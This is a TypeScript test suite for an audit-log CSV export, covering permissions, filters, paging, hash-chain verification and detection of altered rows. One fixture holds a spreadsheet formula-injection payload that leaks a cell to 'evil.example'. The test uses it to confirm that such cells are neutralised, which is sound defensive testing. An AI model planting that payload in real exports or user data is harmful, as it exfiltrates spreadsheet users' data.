import { execFileSync } from "node:child_process";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { asc, eq } from "drizzle-orm";
import { createTestDatabase } from "@/db/testing";
import type { Database } from "@/db";
import { auditEvents, type User } from "@/db/schema";
import { AppError } from "@/lib/errors";
import { createUserFactory, ctxFor } from "@/test/factories";
import { AUDIT_CSV_HEADER, AUDIT_EXPORT_PAGE, exportAuditCsv } from "./export";
import { canonicalJson } from "./hash";
import { recordAudit } from "./record";
import { verifyAuditChain } from "./verify";
import { verifyAuditCsv } from "./verify-csv";

const EVIL_EMAIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';

let database: Database;
let admin: User;
let designer: User;

beforeAll(async () => {
  database = await createTestDatabase();
  const { db } = database;
  admin = await createUserFactory(db, { role: "admin", email: "admin@example.test" });
  designer = await createUserFactory(db, { role: "designer" });
  await recordAudit({ db, input: { actor: null, action: "setup.admin_created", data: { email: admin.email } } });
  await recordAudit({
    db,
    input: {
      actor: { id: null, email: EVIL_EMAIL },
      action: "auth.sign_in_failed",
      data: { reason: "unknown_user" },
      ip: "198.51.100.4",
    },
  });
  await recordAudit({
    db,
    input: {
      actor: admin,
      action: "user.created",
      subject: { type: "user", id: "+1" },
      data: { z: "-2+3", a: { note: "@SUM(1,2)" } },
      ip: "203.0.113.7",
    },
  });
  await recordAudit({ db, input: { actor: admin, action: "auth.signed_in", ip: "203.0.113.7" } });
});

afterAll(async () => {
  await database.close();
});

async function download(input: unknown = {}) {
  const result = await exportAuditCsv({ ctx: ctxFor(database.db, admin), input });
  const chunks: string[] = [];
  for await (const chunk of result.chunks) chunks.push(chunk);
  const text = chunks.join("");
  const parsed = Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { newline: "\r\n", skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  const [header, ...rows] = parsed.data;
  const records = rows.map(
    (row) =>
      Object.fromEntries(header!.map((name, i) => [name, row[i]!])) as Record<
        (typeof AUDIT_CSV_HEADER)[number],
        string
      >,
  );
  return { ...result, text, chunkCount: chunks.length, header, rows, records };
}

describe("exportAuditCsv", () => {
  it("writes every entry oldest first, with the documented columns", async () => {
    const file = await download();
    expect(file.text.startsWith("\uFEFF")).toBe(true);
    expect(file.text.endsWith("\r\n")).toBe(true);
    expect(file.filename).toMatch(/^kiln-audit-\d{4}-\d{2}-\d{2}\.csv$/);
    expect(file.header).toEqual([...AUDIT_CSV_HEADER]);

    const stored = await database.db.select().from(auditEvents).orderBy(asc(auditEvents.seq));
    expect(file.records.map((r) => Number(r.seq))).toEqual(stored.map((e) => e.seq));
    // The export's own entry is the last line: the file is the whole chain up to its own making.
    expect(file.records.at(-1)).toMatchObject({ action: "audit.exported", seq: String(file.throughSeq) });

    const userCreated = stored.find((e) => e.action === "user.created")!;
    expect(file.records.find((r) => r.action === "user.created")).toEqual({
      seq: String(userCreated.seq),
      occurred_at: userCreated.occurredAt.toISOString(),
      actor_id: admin.id,
      actor_email: "admin@example.test",
      action: "user.created",
      subject_type: "user",
      subject_id: "'+1",
      ip: "203.0.113.7",
      data: '{"a":{"note":"@SUM(1,2)"},"z":"-2+3"}',
      prev_hash: stored[stored.indexOf(userCreated) - 1]!.hash,
      hash: userCreated.hash,
      hashed_fields_base64: expect.stringMatching(/^W[A-Za-z0-9+/]+=*$/),
    });
    expect(file.records.find((r) => r.action === "setup.admin_created")).toMatchObject({
      actor_email: "",
      subject_type: "",
      subject_id: "",
      ip: "",
    });
    for (const [i, record] of file.records.entries()) {
      expect(record.data).toBe(canonicalJson(stored[i]!.data));
      if (i > 0) expect(record.prev_hash).toBe(file.records[i - 1]!.hash);
    }
  });

  it("refuses anyone without audit.view, and records nothing for them", async () => {
    const before = await database.db.select().from(auditEvents).where(eq(auditEvents.action, "audit.exported"));
    const refused = await exportAuditCsv({ ctx: ctxFor(database.db, designer), input: {} }).catch(
      (error: unknown) => error,
    );
    expect(refused).toBeInstanceOf(AppError);
    expect(refused).toMatchObject({ code: "forbidden" });
    const after = await database.db.select().from(auditEvents).where(eq(auditEvents.action, "audit.exported"));
    expect(after).toHaveLength(before.length);
  });

  it("neutralises entries that would be formulas in a spreadsheet", async () => {
    const file = await download();
    const evil = file.records.find((r) => r.action === "auth.sign_in_failed")!;
    expect(evil.actor_email).toBe(`'${EVIL_EMAIL}`);
    expect(file.text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click me"")"`);
    expect(file.records.find((r) => r.action === "user.created")!.subject_id).toBe("'+1");
    for (const row of file.rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("audits the export itself, with who, from where and the filters", async () => {
    const { throughSeq } = await exportAuditCsv({
      ctx: ctxFor(database.db, admin, "192.0.2.9"),
      input: { action: "auth.", actorEmail: "" },
    });
    const [entry] = await database.db.select().from(auditEvents).where(eq(auditEvents.seq, throughSeq));
    expect(entry).toMatchObject({
      action: "audit.exported",
      actorId: admin.id,
      actorEmail: admin.email,
      ip: "192.0.2.9",
      data: { format: "csv", filters: { action: "auth." } },
    });
  });

  it("keeps the hash chain verifiable after exporting", async () => {
    await download();
    const stored = await database.db.select().from(auditEvents);
    expect(await verifyAuditChain({ db: database.db })).toMatchObject({ ok: true, checked: stored.length });
  });

  it("applies the page's filters: action prefix and actor", async () => {
    const byAction = await download({ action: "auth." });
    expect(byAction.records.length).toBeGreaterThan(0);
    expect(new Set(byAction.records.map((r) => r.action))).toEqual(new Set(["auth.sign_in_failed", "auth.signed_in"]));

    const byActor = await download({ actorEmail: "ADMIN@example.test", before: "3" });
    expect(byActor.records.map((r) => r.action)).toContain("user.created");
    expect(byActor.records.every((r) => r.actor_email === "admin@example.test")).toBe(true);
    expect(byActor.records.at(-1)!.action).toBe("audit.exported");

    await expect(
      exportAuditCsv({ ctx: ctxFor(database.db, admin), input: { action: "x".repeat(101) } }),
    ).rejects.toMatchObject({ code: "invalid_input" });
  });

  it("leaves out entries written after the export began", async () => {
    const result = await exportAuditCsv({ ctx: ctxFor(database.db, admin), input: {} });
    const late = await recordAudit({
      db: database.db,
      input: { actor: null, action: "user.created", data: { late: true } },
    });
    let text = "";
    for await (const chunk of result.chunks) text += chunk;
    expect(late.seq).toBeGreaterThan(result.throughSeq);
    expect(text).not.toContain('{"late":true}');
    expect(text).toContain(`\r\n${result.throughSeq},`);
  });

  it("reads a long log a page at a time, in order, without gaps", async () => {
    const { db } = database;
    const extra = AUDIT_EXPORT_PAGE + 150;
    for (let i = 0; i < extra; i++)
      await recordAudit({ db, input: { actor: null, action: "upload.created", data: { i } } });
    const file = await download({ action: "upload." });
    expect(file.records).toHaveLength(extra);
    expect(file.records.map((r) => JSON.parse(r.data).i)).toEqual(Array.from({ length: extra }, (_, i) => i));
    expect(file.chunkCount).toBe(1 + Math.ceil(extra / AUDIT_EXPORT_PAGE)); // header, then one chunk per page
    expect((await verifyAuditChain({ db })).ok).toBe(true);
  }, 60_000);
});

describe("verifying an export from the file alone", () => {
  /** Replaces one cell of one data row (1-based) and writes the file back as the exporter would. */
  function alterCell(text: string, row: number, column: (typeof AUDIT_CSV_HEADER)[number], value: string): string {
    const parsed = Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { newline: "\r\n", skipEmptyLines: true });
    const [header, ...rows] = parsed.data;
    rows[row - 1]![header!.indexOf(column)] = value;
    return `\uFEFF${Papa.unparse([header!, ...rows], { newline: "\r\n", quotes: true })}\r\n`;
  }

  it("recomputes every hash and link from the rows, despite formula-neutralised cells", async () => {
    const file = await download();
    // The file holds cells a spreadsheet would run as formulas, neutralised with a quote.
    expect(file.text).toContain("'+1");
    const report = verifyAuditCsv(file.text);
    expect(report).toMatchObject({
      ok: true,
      rows: file.records.length,
      complete: true,
      headHash: file.records.at(-1)!.hash,
    });
    for (const row of file.rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("names the first row whose cell was altered", async () => {
    const file = await download();
    const at = file.records.findIndex((r) => r.action === "user.created") + 1;
    const seq = file.records[at - 1]!.seq;
    for (const [column, value] of [
      ["action", "user.deleted"],
      ["actor_email", "someone-else@example.test"],
      ["subject_id", "'+2"],
      ["data", '{"a":{"note":"@SUM(1,2)"},"z":"-2+4"}'],
    ] as const) {
      const report = verifyAuditCsv(alterCell(file.text, at, column, value));
      expect(report, column).toMatchObject({ ok: false, row: at, seq });
      expect(!report.ok && report.reason, column).toContain(column);
    }
    // Re-hashing a changed entry breaks the link to the next one.
    const forged = alterCell(file.text, at, "hash", "f".repeat(64));
    expect(verifyAuditCsv(forged)).toMatchObject({ ok: false, row: at });
    // A deleted row breaks the chain at the row after it.
    const lines = file.text.split("\r\n");
    const withoutRow = [...lines.slice(0, at), ...lines.slice(at + 1)].join("\r\n");
    expect(verifyAuditCsv(withoutRow)).toMatchObject({ ok: false, row: at, seq: file.records[at]!.seq });
  });

  it("npm run audit:verify -- --file says OK for the export and names the altered row", async () => {
    const file = await download();
    const dir = mkdtempSync(path.join(tmpdir(), "kiln-audit-"));
    const good = path.join(dir, "export.csv");
    const bad = path.join(dir, "altered.csv");
    writeFileSync(good, file.text);
    const at = file.records.findIndex((r) => r.action === "auth.signed_in") + 1;
    writeFileSync(bad, alterCell(file.text, at, "ip", "198.51.100.99"));
    const run = (csv: string) => {
      try {
        return {
          code: 0,
          out: execFileSync("npx", ["tsx", "scripts/audit-verify.ts", "--file", csv], {
            encoding: "utf8",
            stdio: "pipe",
          }),
        };
      } catch (error) {
        const e = error as { status: number; stderr: string };
        return { code: e.status, out: e.stderr };
      }
    };
    const ok = run(good);
    expect(ok).toMatchObject({
      code: 0,
      out: expect.stringContaining(`audit export OK: ${file.records.length} rows verified, the whole chain`),
    });
    const broken = run(bad);
    expect(broken.code).toBe(1);
    expect(broken.out).toContain(
      `at row ${at} (line ${at + 1}, entry #${file.records[at - 1]!.seq}): its ip cell does not match what was hashed`,
    );
  }, 60_000);
});
